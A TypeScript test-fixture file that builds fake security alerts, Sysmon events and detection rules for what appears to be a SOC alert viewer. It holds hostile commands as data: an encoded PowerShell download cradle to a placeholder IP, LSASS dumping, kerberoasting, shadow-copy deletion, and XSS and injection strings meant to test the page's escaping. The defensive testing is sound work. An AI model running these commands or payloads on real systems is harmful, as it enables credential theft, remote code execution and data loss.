/**
 * Made-up alerts and events, realistic and hostile, in proto3 JSON. Everything is derived from an
 * index and a start time, so that each test sees the same.
 */
export interface FakeAlert {
  alertId: string;
  ruleId: string;
  ruleVersion: number;
  title: string;
  level: string;
  timeMs: string;
  firstSeenMs: string;
  lastSeenMs: string;
  ingestTimeMs: string;
  count?: string;
  reason: string;
  host: string;
  user: string;
  techniqueIds: string[];
  tactics: string[];
  logSource: { product?: string; category?: string; service?: string };
  entities: { kind: string; value: string }[];
}

export interface FakeField {
  field: string;
  value: string;
  selection: string;
  operator: string;
  pattern: string;
}

interface Template {
  title: string;
  level: string;
  reason: string;
  host: string;
  user: string;
  techniques: string[];
  tactics: string[];
  logSource: FakeAlert["logSource"];
  classUid: number;
  className: string;
  fields: FakeField[];
  payload: unknown;
  count?: number;
  /** Of a correlation or pattern: its members in order, and what they share. */
  episode?: {
    group: [field: string, value: string];
    members: string[];
    finding: [name: string, value: string];
  };
}

const enc = Buffer.from(
  "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.24/a')",
  "utf16le",
).toString("base64");
export const ENCODED_COMMAND = `powershell.exe -nop -w hidden -enc ${enc}`;
const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const PROCESS = { product: "windows", category: "process_creation" };

const field = (
  selection: string,
  name: string,
  operator: string,
  pattern: string,
  value: string,
): FakeField => ({
  field: name,
  value,
  selection,
  operator,
  pattern,
});

/** Stands for a number that JavaScript cannot hold. */
const BIG = "@9007199254740993";

const sysmon = (host: string, data: Record<string, unknown>) => ({
  Event: {
    System: {
      Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } },
      EventID: 1,
      Version: 5,
      Level: 4,
      EventRecordID: BIG,
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Computer: host,
    },
    EventData: data,
  },
});

const process = (
  title: string,
  level: string,
  host: string,
  user: string,
  techniques: string[],
  tactics: string[],
  commandLine: string,
  pattern: string,
  count?: number,
): Template => {
  const image = `C:\\Windows\\System32\\${commandLine.split(" ")[0]}`;
  return {
    title,
    level,
    reason: commandLine,
    host,
    user,
    techniques,
    tactics,
    logSource: PROCESS,
    classUid: 1007,
    className: "Process Activity",
    fields: [
      field("selection", "Image", "endswith", `\\${commandLine.split(" ")[0]}`, image),
      field("selection", "CommandLine", "contains", pattern, commandLine),
    ],
    payload: sysmon(host, { Image: image, CommandLine: commandLine, User: user, ProcessId: "4711" }),
    ...(count ? { count } : {}),
  };
};

export const TEMPLATES: Template[] = [
  {
    title: "Encoded PowerShell started by Office",
    level: "LEVEL_CRITICAL",
    reason: "WINWORD.EXE → powershell.exe -nop -w hidden -enc",
    host: "fin-wks-0142",
    user: "NORTHWIND\\a.moreau",
    techniques: ["T1059.001", "T1027"],
    tactics: ["execution", "defense-evasion"],
    logSource: PROCESS,
    classUid: 1007,
    className: "Process Activity",
    count: 3,
    fields: [
      field("parent", "ParentImage", "endswith", "\\WINWORD.EXE", WORD),
      field("shell", "Image", "endswith", "\\powershell.exe", POWERSHELL),
      field("shell", "CommandLine", "contains", " -enc ", ENCODED_COMMAND),
    ],
    payload: sysmon("fin-wks-0142", {
      UtcTime: "2026-11-20 14:31:52.418",
      ProcessGuid: "{5af2c1a9-7c55-4b0e-9a41-2d1f0c9b7e42}",
      ProcessId: "10244",
      Image: POWERSHELL,
      CommandLine: ENCODED_COMMAND,
      CurrentDirectory: "C:\\Users\\a.moreau\\Documents\\",
      User: "NORTHWIND\\a.moreau",
      IntegrityLevel: "Medium",
      ParentProcessId: "9120",
      ParentImage: WORD,
      ParentCommandLine: `"${WORD}" /n "invoice_4471\u200b.docm"`,
    }),
  },
  process(
    "LSASS memory read by unsigned process",
    "LEVEL_CRITICAL",
    "dc-ams-02",
    "svc-backup",
    ["T1003.001"],
    ["credential-access"],
    "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp",
    "lsass",
  ),
  process(
    "Kerberoasting: many RC4 tickets",
    "LEVEL_HIGH",
    "eng-wks-0311",
    "t.lindqvist",
    ["T1558.003"],
    ["credential-access"],
    "rubeus.exe kerberoast /rc4opsec",
    "kerberoast",
    47,
  ),
  process(
    "Shadow copies deleted",
    "LEVEL_HIGH",
    "file-par-01",
    "svc-patch",
    ["T1490"],
    ["impact"],
    "vssadmin.exe delete shadows /all /quiet",
    "delete shadows",
  ),
  {
    ...process(
      "Double extension in a download",
      "LEVEL_HIGH",
      "hr-wks-0077",
      "c.nkemelu",
      ["T1036.002"],
      ["defense-evasion"],
      "invoice_4471_\u202efdp.exe",
      "\u202e",
    ),
    classUid: 1001,
    className: "File System Activity",
    logSource: { product: "windows", category: "file_event" },
  },
  {
    title: "DNS tunnelling pattern",
    level: "LEVEL_MEDIUM",
    reason: "312 TXT queries in 60 s, label entropy 4.1",
    host: "lab-srv-14",
    user: "root",
    techniques: ["T1071.004"],
    tactics: ["command-and-control"],
    logSource: { product: "zeek", service: "dns" },
    classUid: 4003,
    className: "DNS Activity",
    count: 312,
    fields: [
      field(
        "selection",
        "query",
        "re",
        "^[a-z0-9]{40,}\\.",
        "mfrggzdfmztwq2lkmfrggzdfmztwq2lkmfrggzdfmztwq2lk.t.example.net",
      ),
    ],
    payload: {
      _path: "dns",
      query: "mfrggzdfmztwq2lkmfrggzdfmztwq2lkmfrggzdfmztwq2lk.t.example.net",
      qtype_name: "TXT",
      "id.orig_h": "10.4.2.14",
    },
  },
  {
    title: "AWS key used from a new network",
    level: "LEVEL_MEDIUM",
    reason: "AKIA…7Q3F from 203.0.113.9, ListBuckets",
    host: "aws-prod",
    user: "ci-deploy",
    techniques: ["T1078.004"],
    tactics: ["initial-access", "persistence", "privilege-escalation", "defense-evasion"],
    logSource: { product: "aws", service: "cloudtrail" },
    classUid: 6003,
    className: "API Activity",
    count: 6,
    fields: [
      field("selection", "eventName", "equals", "ListBuckets", "ListBuckets"),
      field("not_known", "sourceIPAddress", "cidr", "203.0.113.0/24", "203.0.113.9"),
    ],
    payload: {
      eventName: "ListBuckets",
      sourceIPAddress: "203.0.113.9",
      userIdentity: { type: "IAMUser", userName: "ci-deploy", accessKeyId: "AKIAEXAMPLE7Q3F" },
      requestParameters: null,
    },
  },
  process(
    "Scheduled task created remotely",
    "LEVEL_MEDIUM",
    "app-ber-21",
    "o.petrov",
    ["T1053.005"],
    ["execution", "persistence", "privilege-escalation"],
    'schtasks.exe /create /s app-ber-21 /tn "Updater" /tr c:\\p.exe /sc onlogon',
    "/create",
  ),
  process(
    "Service with a random name",
    "LEVEL_MEDIUM",
    "app-ber-22",
    "SYSTEM",
    ["T1543.003"],
    ["persistence", "privilege-escalation"],
    "sc.exe create kqzpwx binPath= C:\\Windows\\kqzpwx.exe",
    "create",
  ),
  process(
    "Failed sign-ins then a success",
    "LEVEL_MEDIUM",
    "vpn-gw-1",
    "j.ferrand",
    ["T1110.001"],
    ["credential-access"],
    "net.exe use \\\\vpn-gw-1\\c$ /user:j.ferrand",
    "use",
    39,
  ),
  process(
    "Container started with host mount",
    "LEVEL_MEDIUM",
    "k8s-prod-7",
    "sa:builder",
    ["T1611"],
    ["privilege-escalation"],
    "docker run -v /:/host alpine",
    "-v /:",
    2,
  ),
  process(
    "New local administrator",
    "LEVEL_LOW",
    "eng-wks-0298",
    "t.lindqvist",
    ["T1136.001"],
    ["persistence"],
    "net.exe localgroup administrators helpdesk2 /add",
    "/add",
  ),
  process(
    "Remote tool first seen",
    "LEVEL_LOW",
    "mkt-wks-0051",
    "p.osei",
    ["T1219"],
    ["command-and-control"],
    "AnyDesk.exe --service",
    "AnyDesk",
    4,
  ),
  process(
    "Registry run key added",
    "LEVEL_LOW",
    "fin-wks-0119",
    "b.klein",
    ["T1547.001"],
    ["persistence", "privilege-escalation"],
    "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync2",
    "\\CurrentVersion\\Run",
  ),
  process(
    "System information listed",
    "LEVEL_INFORMATIONAL",
    "des-mac-0012",
    "n.haddad",
    ["T1082"],
    ["discovery"],
    "systeminfo.exe",
    "systeminfo",
  ),
  process(
    "Account discovery with net",
    "LEVEL_INFORMATIONAL",
    "fin-wks-0142",
    "NORTHWIND\\a.moreau",
    ["T1087.002"],
    ["discovery"],
    "net.exe user /domain",
    "user /domain",
  ),
];

/** What a correlation raises: three members, the oldest event no longer stored. */
export const EPISODE: Template = {
  title: "Many encoded commands on one host",
  level: "LEVEL_HIGH",
  reason: "3 matches in 4m 10s by host=fin-wks-0142",
  host: "fin-wks-0142",
  user: "NORTHWIND\\a.moreau",
  techniques: ["T1059.001"],
  tactics: ["execution"],
  logSource: {},
  classUid: 1007,
  className: "Process Activity",
  fields: [],
  payload: { CommandLine: ENCODED_COMMAND, User: "NORTHWIND\\a.moreau" },
  count: 3,
  episode: {
    group: ["host", "fin-wks-0142"],
    members: ["encoded", "<b>encoded\u202e", "encoded"],
    finding: ["matches", "3"],
  },
};

/** What an attacker would put into every string that reaches the page. */
export const HOSTILE: Template = {
  title: '<img src=x onerror="window.pwned=1">\u202egnp.exe\u200b',
  level: "LEVEL_HIGH",
  reason:
    "</script><script>window.pwned=2</script> {{7*7}} javascript:alert(1) \u0000\u001b[31m\u2066\u{e0041}\ue000",
  host: "р\u0430ypal-dc\u202e01",
  user: '"><svg onload=window.pwned=3>',
  techniques: ["T1059\u202e"],
  tactics: ["execution"],
  logSource: { product: "win<b>dows", category: "process\u200b" },
  classUid: 1007,
  className: "Process <i>Activity",
  fields: [
    field(
      "sel<b>",
      "Command\u202eLine",
      "contains",
      "<script>",
      "x <script>window.pwned=4</script> \u202e\u200d".repeat(30),
    ),
    field("long", "Blob", "equals", "A".repeat(20_000), "A".repeat(20_000)),
    field("", "", "keyword", "\ud800", "lone \ud800 surrogate"),
  ],
  payload: {
    "Command\u202eLine": "x <script>window.pwned=4</script> \u202e\u200d".repeat(30),
    __proto__x: "<img src=x onerror=window.pwned=5>",
    nested: { constructor: ["\u2028", "\ufeff"] },
  },
};

const uuid = (n: number, kind: string) =>
  `${kind}${n.toString(16).padStart(8 - kind.length, "0")}-5c1d-7e00-8a00-${(n * 2654435761).toString(16).padStart(12, "0").slice(-12)}`;

export const ruleIdOf = (template: number) => uuid(template + 1, "f");

export function alertOf(template: Template, at: number, ruleId: string, n: number): FakeAlert {
  return {
    alertId: uuid(n, "a"),
    ruleId,
    ruleVersion: 13,
    title: template.title,
    level: template.level,
    timeMs: String(at),
    firstSeenMs: String(at),
    lastSeenMs: String(at + 2000),
    ingestTimeMs: String(at + 1300),
    ...(template.count ? { count: String(template.count) } : {}),
    reason: template.reason,
    host: template.host,
    user: template.user,
    techniqueIds: template.techniques,
    tactics: template.tactics,
    logSource: template.logSource,
    entities: [
      { kind: "host", value: template.host },
      { kind: "user", value: template.user },
      ...(n === 0 ? [{ kind: "ip", value: "198.51.100.24" }] : []),
    ],
  };
}

/** Ages that begin like the mock's queue and thin out over the day. */
export function agesMs(count: number): number[] {
  const first = [14, 60, 120, 240, 360, 420, 540, 560, 660, 720, 900, 960, 1080, 1260, 1320, 1440].map(
    (s) => s * 1000,
  );
  return Array.from(
    { length: count },
    (_, i) => first[i] ?? 1_440_000 + Math.floor(((i - 15) / count) * 84e6 + ((i * 7919) % 97) * 9000),
  );
}

export function detailOf(template: Template, alert: FakeAlert) {
  if (template.episode) return episodeOf(template, alert);
  const time = Number(alert.timeMs);
  const eventId = alert.alertId.replace(/^a/, "e");
  return {
    alert,
    evidence: [{ eventId, timeUs: String(time * 1000), fields: template.fields }],
    events: [eventOf(template, eventId, time, true)],
    tags: ["attack.execution", ...template.techniques.map((t) => `attack.${t.toLowerCase()}`)],
    ruleHash: "6f2c1a9e7c554b0e",
  };
}

function episodeOf(template: Template, alert: FakeAlert) {
  const { group, members, finding } = template.episode ?? { group: ["", ""], members: [], finding: ["", ""] };
  const at = (i: number) => Number(alert.timeMs) - (members.length - 1 - i) * 125_000;
  const eventId = (i: number) => alert.alertId.replace(/^a/, "e").replace(/^(.{7})./, `$1${i}`);
  return {
    alert,
    evidence: members.map((member, i) => ({
      eventId: eventId(i),
      timeUs: String(at(i) * 1000),
      fields: [
        field(member, group[0] ?? "", "group-by", "", group[1] ?? ""),
        ...(i === 0 ? [field(member, finding[0] ?? "", "finding", "", finding[1] ?? "")] : []),
      ],
    })),
    events: members.slice(1).map((_, i) => eventOf(template, eventId(i + 1), at(i + 1), true)),
    tags: [],
    ruleHash: "6f2c1a9e7c554b0e",
  };
}

export function eventOf(template: Template, eventId: string, time: number, whole: boolean) {
  const office = template.title.startsWith("Encoded");
  return {
    eventId,
    timeMs: String(time),
    ingestTimeMs: String(time + 500),
    logSource: template.logSource,
    classUid: template.classUid,
    className: template.className,
    host: template.host,
    user: template.user,
    summary: template.reason,
    ...(whole ? { payload: JSON.stringify(template.payload).replace(/"@(\d+)"/, "$1") } : {}),
    ocsf: office
      ? {
          "process.name": "powershell.exe",
          "process.pid": "10244",
          "process.cmd_line": ENCODED_COMMAND,
          "process.parent_process.name": "WINWORD.EXE",
          "process.parent_process.pid": "9120",
          "process.parent_process.cmd_line": 'WINWORD.EXE /n "invoice_4471\u200b.docm"',
        }
      : {},
    origin: "replay:demo.ndjson",
  };
}

const NOISE: [number, string, string][] = [
  [1007, "Process Activity", "svchost.exe → taskhostw.exe"],
  [4001, "Network Activity", "chrome.exe → 203.0.113.80:443 tcp"],
  [1001, "File System Activity", "OneDrive.exe wrote settings.dat"],
  [4003, "DNS Activity", "outlook.office365.com A"],
  [1007, "Process Activity", "explorer.exe → notepad.exe notes.txt"],
  [3002, "Authentication", "NORTHWIND\\a.moreau signed in, interactive"],
  [4001, "Network Activity", "teams.exe → 10.0.4.11:443 tcp"],
];

/** Neighbours of an alert on its host: background, and what the mock's attack did next. */
export function neighboursOf(template: Template, alert: FakeAlert, fromMs: number, toMs: number) {
  const at = Number(alert.timeMs);
  const detail = detailOf(template, alert);
  const background = Array.from({ length: 140 }, (_, i) => {
    const [classUid, className, summary] = NOISE[(i * 5 + (i >> 2)) % NOISE.length] ?? [0, "", ""];
    const time = fromMs + Math.floor((Math.abs(Math.sin(i * 12.9898) * 43758.5453) % 1) * (toMs - fromMs));
    return {
      eventId: uuid(i, "b"),
      timeMs: String(time),
      classUid,
      className,
      host: alert.host,
      summary,
      ocsf: {},
    };
  });
  const own = detail.events.map(({ payload: _, ...event }) => event);
  const next = [
    {
      ms: -12_316,
      classUid: 1007,
      className: "Process Activity",
      summary: "explorer.exe → WINWORD.EXE invoice_4471\u200b.docm",
      ocsf: { "process.name": "WINWORD.EXE", "process.pid": "9120", "process.parent_process.pid": "4312" },
    },
    {
      ms: 2589,
      classUid: 4001,
      className: "Network Activity",
      summary: "powershell.exe → 198.51.100.24:443 tcp",
      ocsf: { "actor.process.pid": "10244" },
    },
    {
      ms: 4796,
      classUid: 1001,
      className: "File System Activity",
      summary: "powershell.exe wrote C:\\Users\\a.moreau\\AppData\\Local\\Temp\\q.dll, 214 KB",
      ocsf: {},
    },
    {
      ms: 6242,
      classUid: 1007,
      className: "Process Activity",
      summary: "powershell.exe → rundll32.exe Temp\\q.dll,Start",
      ocsf: {
        "process.name": "rundll32.exe",
        "process.pid": "10310",
        "process.cmd_line": "rundll32.exe Temp\\q.dll,Start",
        "process.parent_process.pid": "10244",
      },
    },
  ].map(({ ms, ...event }, i) => ({
    eventId: uuid(i, "c"),
    timeMs: String(at + ms),
    host: alert.host,
    ...event,
  }));
  return [...background, ...own, ...next]
    .filter((event) => Number(event.timeMs) >= fromMs && Number(event.timeMs) < toMs)
    .sort((a, b) => Number(a.timeMs) - Number(b.timeMs));
}

export function ruleOf(template: Template, index: number, alerts24h: number) {
  const yaml = `title: ${template.title}
id: ${ruleIdOf(index)}
status: test
description: Office starts PowerShell with an encoded command.
author: k.ito
tags:
${template.tactics.map((t) => `  - attack.${t}`).join("\n")}
${template.techniques.map((t) => `  - attack.${t.toLowerCase()}`).join("\n")}
logsource:
  product: ${template.logSource.product ?? ""}
  category: ${template.logSource.category ?? template.logSource.service ?? ""}
detection:
${template.fields.map((f) => `  ${f.selection || "keywords"}:\n    ${f.field}|${f.operator}: '${f.pattern.slice(0, 60)}'`).join("\n")}
  condition: all of them
falsepositives:
  - Signed macro packs of the finance department
level: ${template.level.replace("LEVEL_", "").toLowerCase()}  # reviewed 2026-11-02
`;
  return {
    ruleId: ruleIdOf(index),
    version: 13,
    hash: "6f2c1a9e7c554b0e",
    title: template.title,
    description:
      "Fires when the named program runs with the named arguments, as attackers do in the first minutes on a host.",
    author: "k.ito",
    status: index % 4 === 3 ? "experimental" : "test",
    level: template.level,
    logSource: template.logSource,
    tags: template.techniques.map((t) => `attack.${t.toLowerCase()}`),
    techniqueIds: template.techniques,
    tactics: template.tactics,
    falsePositives: ["Signed macro packs of the finance department"],
    references: ["https://attack.mitre.org/techniques/T1059/001/"],
    file: `${template.logSource.product}/${template.title
      .toLowerCase()
      .replace(/[^a-z]+/g, "_")
      .slice(0, 40)}.yml`,
    source: yaml,
    alerts24h: String(alerts24h),
  };
}
